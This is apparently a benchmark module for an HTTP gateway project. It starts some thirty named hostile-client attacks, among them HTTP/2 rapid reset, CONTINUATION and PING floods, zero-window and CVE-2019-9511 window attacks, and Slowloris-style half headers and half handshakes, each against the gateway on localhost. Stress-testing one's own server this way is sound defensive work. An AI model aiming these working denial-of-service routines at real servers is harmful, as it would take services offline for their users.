"""What hostile clients do to a gateway, each until it is told to stop: `python -m bench.attacks NAME PORT TLS_PORT`.

A process of its own, with the lowest priority, so that it is the gateway's work that others feel and not the attacker's. It
prints "begun", and on SIGTERM how many connections it made and how many octets it sent. It ends by itself after two minutes.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import signal
import socket
import ssl
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Final

import uvloop

from bench import rig
from gateway.http.field_sections import encoded
from gateway.http.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    number,
)

AT_MOST: Final = 120.0  # seconds
HELLO: Final = PREFACE + frame(SETTINGS, 0, 0)
BOTH: Final = END_HEADERS | END_STREAM
ATTACKED: Final = "attacked.bench.example"  # a route to a backend that answers in two octets
LARGE: Final = "large.bench.example"  # one that answers in megabytes
NOWHERE: Final = "nowhere.example"
LAST: Final = 2**31 - 1


def block(host: str, method: str = "GET", *more: tuple[str, str]) -> bytes:
    """A request's field block."""
    said = ((":method", method), (":scheme", "http"), (":authority", host), (":path", "/"), *more)
    return b"".join(encoded(name.encode(), value.encode()) for name, value in said)


@dataclass
class Attacker:
    """Where to, and what was done."""

    port: int
    tls_port: int
    connections: int = 0
    octets: int = 0
    tasks: list[asyncio.Task[None]] = field(default_factory=list)

    @contextlib.asynccontextmanager
    async def connection(self, *, deaf: bool = False, port: int = 0) -> AsyncIterator[Wire]:
        """A connection of which every byte is ours; what comes back is read and dropped, or, being deaf, never read."""
        made = socket.socket()
        if deaf:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.setblocking(False)
        loop = asyncio.get_running_loop()
        reading: asyncio.Task[None] | None = None
        try:
            await loop.sock_connect(made, ("127.0.0.1", port or self.port))
            self.connections += 1
            wire = Wire(self, made)
            if not deaf:
                reading = asyncio.create_task(wire.drop())
            yield wire
        finally:
            if reading is not None:
                reading.cancel()
                await asyncio.gather(reading, return_exceptions=True)
            made.close()

    async def again(self, deed: Callable[[], Awaitable[None]]) -> None:
        """A deed, and once more on a new connection when the gateway has had enough of it."""
        while True:
            with contextlib.suppress(ConnectionError, BrokenPipeError, OSError):
                await deed()
            await asyncio.sleep(0.05)


class Wire:
    """One connection."""

    def __init__(self, attacker: Attacker, connection: socket.socket) -> None:
        self._attacker = attacker
        self._connection = connection
        self.is_over = False

    async def send(self, data: bytes) -> None:
        """All of it; raises ConnectionError where nobody listens any more."""
        if self.is_over:
            raise ConnectionError
        await asyncio.get_running_loop().sock_sendall(self._connection, data)
        self._attacker.octets += len(data)

    async def drop(self) -> None:
        """Read and forget."""
        with contextlib.suppress(OSError):
            while await asyncio.get_running_loop().sock_recv(self._connection, 1 << 18):
                pass
        self.is_over = True

    async def stay(self) -> None:
        """Until the gateway ends it."""
        while not self.is_over:
            await asyncio.sleep(0.1)


def streams() -> Iterator[int]:
    """Numbers of streams, for one connection."""
    return iter(range(1, LAST, 2))


Attack = Callable[[Attacker], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}


def attack(name: str, connections: int = 4) -> Callable[[Attack], Attack]:
    """Register what one connection does; so many do it at a time."""

    def registered(deed: Attack) -> Attack:
        async def all_of_them(attacker: Attacker) -> None:
            await asyncio.gather(*(attacker.again(lambda: deed(attacker)) for _ in range(connections)))  # type: ignore[arg-type]

        ATTACKS[name] = all_of_them
        return deed

    return registered


def flood(name: str, piece: Callable[[Iterator[int]], bytes], *, opening: bytes = HELLO, deaf: bool = False) -> None:
    """The same kind of bytes again and again, as fast as they are taken."""

    @attack(name)
    async def deed(attacker: Attacker) -> None:
        async with attacker.connection(deaf=deaf) as wire:
            await wire.send(opening)
            numbers = streams()
            while True:
                await wire.send(b"".join(piece(numbers) for _ in range(200)))


def _reset(numbers: Iterator[int]) -> bytes:
    n = next(numbers)
    return frame(HEADERS, BOTH, n, block(ATTACKED)) + frame(RST_STREAM, 0, n, number(8))


def _provoked_by_a_window(numbers: Iterator[int]) -> bytes:
    n = next(numbers)
    return frame(HEADERS, BOTH, n, block(ATTACKED)) + frame(WINDOW_UPDATE, 0, n, number(0))


def _provoked_by_an_overflow(numbers: Iterator[int]) -> bytes:
    n = next(numbers)
    return frame(HEADERS, BOTH, n, block(ATTACKED)) + frame(WINDOW_UPDATE, 0, n, number(LAST))


def _provoked_by_length(numbers: Iterator[int]) -> bytes:
    n = next(numbers)
    return frame(HEADERS, END_HEADERS, n, block(ATTACKED, "POST", ("content-length", "1"))) + frame(DATA, END_STREAM, n, b"abc")


def _provoked_by_trailers(numbers: Iterator[int]) -> bytes:
    n = next(numbers)
    return frame(HEADERS, END_HEADERS, n, block(ATTACKED, "POST")) + frame(HEADERS, BOTH, n, encoded(b":path", b"/"))


def _provoked_by_a_field(numbers: Iterator[int]) -> bytes:
    return frame(HEADERS, BOTH, next(numbers), block(ATTACKED, "GET", ("connection", "close")))


def _provoked_by_content_for_nobody(numbers: Iterator[int]) -> bytes:
    return frame(HEADERS, END_HEADERS, next(numbers), block(NOWHERE, "POST"))


def _one_stream_too_many(numbers: Iterator[int]) -> bytes:
    return frame(HEADERS, END_HEADERS, next(numbers), block(ATTACKED, "POST"))


def _nowhere(numbers: Iterator[int]) -> bytes:
    return frame(HEADERS, BOTH, next(numbers), block(NOWHERE))


flood("rapid reset", _reset)
flood("resets provoked by a WINDOW_UPDATE of 0", _provoked_by_a_window)
flood("resets provoked by a window that overflows", _provoked_by_an_overflow)
flood("resets provoked by content longer than it says", _provoked_by_length)
flood("resets provoked by malformed trailers", _provoked_by_trailers)
flood("requests with a field that HTTP/2 has not", _provoked_by_a_field)
flood("content for a rule that there is not", _provoked_by_content_for_nobody)
flood("streams over the limit", _one_stream_too_many)
flood("404s on HTTP/2", _nowhere)
flood("404s on HTTP/2, never read", _nowhere, deaf=True)
flood("PING", lambda _: frame(PING, 0, 0, b"x" * 8))
flood("PING, never read", lambda _: frame(PING, 0, 0, b"x" * 8), deaf=True)
flood("SETTINGS", lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
flood("PRIORITY", lambda _: frame(PRIORITY, 0, 3, number(0) + b"\x10"))
flood("WINDOW_UPDATE by one", lambda _: frame(WINDOW_UPDATE, 0, 0, number(1)))
flood("frames of an unknown type", lambda _: frame(0xB, 0, 0))
flood("CONTINUATION", lambda _: frame(CONTINUATION, 0, 1, b"\0"), opening=HELLO + frame(HEADERS, END_STREAM, 1, b""))
OPEN: Final = HELLO + frame(HEADERS, END_HEADERS, 1, block(ATTACKED, "POST"))
flood("empty DATA", lambda _: frame(DATA, 0, 1), opening=OPEN)
flood("DATA by the octet", lambda _: frame(DATA, 0, 1, b"x"), opening=OPEN)
flood("padding without content", lambda _: frame(DATA, 0x8, 1, b"\x07" + b"\0" * 7), opening=OPEN)
CHUNKED: Final = f"POST / HTTP/1.1\r\nHost: {ATTACKED}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
flood("chunks of one octet", lambda _: b"1\r\nx\r\n", opening=CHUNKED)
PLAIN: Final = f"GET / HTTP/1.1\r\nHost: {ATTACKED}\r\n\r\n".encode()
flood("pipelined requests", lambda _: PLAIN, opening=b"")
flood("pipelined requests, never read", lambda _: PLAIN, opening=b"", deaf=True)
MISSING: Final = PLAIN.replace(ATTACKED.encode(), NOWHERE.encode())
flood("404s on HTTP/1.1, never read", lambda _: MISSING, opening=b"", deaf=True)


@attack("windows of nothing", connections=10)
async def zero_windows(attacker: Attacker) -> None:
    """A hundred large answers on each connection, none of which is taken."""
    async with attacker.connection() as wire:
        await wire.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        await wire.send(b"".join(frame(HEADERS, BOTH, n, block(LARGE)) for n in range(1, 201, 2)))
        await wire.stay()


@attack("windows by the octet")
async def tiny_windows(attacker: Attacker) -> None:
    """A large answer, taken octet by octet (CVE-2019-9511)."""
    async with attacker.connection() as wire:
        await wire.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(HEADERS, BOTH, 1, block(LARGE)))
        while True:
            await wire.send(frame(WINDOW_UPDATE, 0, 1, number(1)) * 200)


@attack("large answers, never read", connections=150)
async def never_read(attacker: Attacker) -> None:
    """On HTTP/1.1."""
    async with attacker.connection(deaf=True) as wire:
        await wire.send(PLAIN.replace(ATTACKED.encode(), LARGE.encode()))
        await asyncio.sleep(AT_MOST)


@attack("half heads", connections=200)
async def half_heads(attacker: Attacker) -> None:
    """An octet a second."""
    async with attacker.connection() as wire:
        await wire.send(b"GET / HTTP/1.1\r\nX: ")
        while True:
            await wire.send(b"x")
            await asyncio.sleep(1)


@attack("half field sections", connections=200)
async def half_sections(attacker: Attacker) -> None:
    """HEADERS without an end."""
    async with attacker.connection() as wire:
        await wire.send(HELLO + frame(HEADERS, END_STREAM, 1, block(ATTACKED)[:5]))
        await wire.stay()


@attack("half handshakes", connections=200)
async def half_handshakes(attacker: Attacker) -> None:
    """A ClientHello without its end."""
    async with attacker.connection(port=attacker.tls_port) as wire:
        await wire.send(_hello()[:100])
        await wire.stay()


@cache
def _hello() -> bytes:
    said = ssl.MemoryBIO()
    hello = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), said, server_hostname=ATTACKED)
    with contextlib.suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    return said.read()


@attack("handshakes and nothing more", connections=4)
async def handshakes(attacker: Attacker) -> None:
    """A TLS handshake, and the connection is closed."""
    _, writer = await asyncio.open_connection("127.0.0.1", attacker.tls_port, ssl=_anybody(), server_hostname=ATTACKED)
    attacker.connections += 1
    writer.transport.abort()


@cache
def _anybody() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def run(attacker: Attacker, name: str) -> None:
    """Until SIGTERM, in the middle of whatever is done: who measures does not wait for the rest of it."""

    def end(*_: object) -> None:
        print(attacker.connections, attacker.octets, flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, end)
    print("begun", flush=True)
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(AT_MOST):
            await ATTACKS[name](attacker)
    end()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("tls_port", type=int)
    arguments = parser.parse_args()
    rig.stand_back()
    uvloop.run(run(Attacker(arguments.port, arguments.tls_port), arguments.name))


if __name__ == "__main__":
    main()
